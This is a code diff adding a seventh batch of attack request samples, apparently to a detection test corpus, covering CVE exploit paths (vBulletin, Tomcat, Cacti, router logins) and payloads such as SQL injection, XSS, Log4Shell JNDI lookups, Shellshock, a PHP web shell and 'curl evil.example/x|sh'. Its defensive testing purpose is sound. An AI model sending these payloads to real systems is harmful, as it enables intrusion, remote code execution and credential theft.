@@ -2408,3 +2408,56 @@ m:OPTIONS /api/v1/hoso HTTP/2.0
 m:HEAD /robots.txt HTTP/1.0
 """),
 ]
+
+# Seventh batch, written after round seven and left untuned: its figure is the last estimate.
+ATTACKS += [
+("cve-exploit", "batch 7: botnet and scanner exploit requests from vendor advisories and CVE write-ups (wp-file-manager, vBulletin, JBoss, Tomcat, Elasticsearch, Docker, YARN, Cacti, Zyxel, Jira, GLPI, Magento)", r"""
+p:/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php
+p:/ajax/render/widget_tabbedcontainer_tab_panel?subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();
+p:/invoker/JMXInvokerServlet
+p:/manager/text/deploy?path=/x&war=http://evil.example/x.war
+p:/_search?source={"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\")"}}}
+p:/containers/json
+p:/ws/v1/cluster/apps/new-application
+p:/remote_agent.php?action=polldata&poller_id=;id&host_id=1&local_data_ids[]=1
+p:/cgi-bin/ViewLog.asp
+p:/vendor/htmlawed/htmlawed/htmLawedTest.php
+p:/api/v1/pods
+p:/debug/pprof/goroutine?debug=2
+p:/HNAP1/
+p:/boaform/admin/formLogin?username=admin&psd=admin
+p:/cgi-bin/mainfunction.cgi?action=login&keyPath=%27%0A/bin/sh${IFS}-c${IFS}id%0A%27&loginUser=a&loginPwd=a
+p:/webtools/control/ProgramExport
+p:/wls-wsat/CoordinatorPortType
+"""),
+("mixed", "batch 7: payloads of earlier classes in placements and encodings not used so far (parameter names, path segments, Referer query, double and mixed encodings)", r"""
+qn:<script>alert(1)</script>
+qn:1' or '1'='1
+qn:../../../etc/passwd
+qn:{{7*7}}
+qn:$(id)
+pe:/api/v1/users/1;cat /etc/passwd
+pe:/api/v1/users/1' or '1'='1
+pe:/api/v1/users/{{7*7}}
+pe:/api/v1/users/<img src=x onerror=alert(1)>
+pe:/api/v1/users/..;/..;/admin
+ref:https://www.google.com/search?q=1'+union+select+1,2--
+ref:https://portal.example/?next=//evil.example
+ref:https://portal.example/?q=${jndi:ldap://evil.example/x}
+ref:https://portal.example/?cmd=;id
+qr:q=%253Cscript%253Ealert%25281%2529%253C%252Fscript%253E
+qr:q=%25%32%37%20or%201=1--
+qr:doc=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts
+qr:x=%2524%2528id%2529
+qr:x=%u0027%u0020or%u00201=1--
+qr:x=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be
+qr:x=&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
+qr:x=\u003cimg src=x onerror=alert(1)\u003e
+ua:Mozilla/5.0 (X11; Linux x86_64) $(curl evil.example/x|sh)
+ua:Mozilla/5.0;cat /etc/passwd
+ua:<?php system($_GET['c']); ?>
+ua:{{7*7}}${7*7}
+ua:../../../../etc/shadow
+ref:() { :;}; echo; /usr/bin/id
+"""),
+]
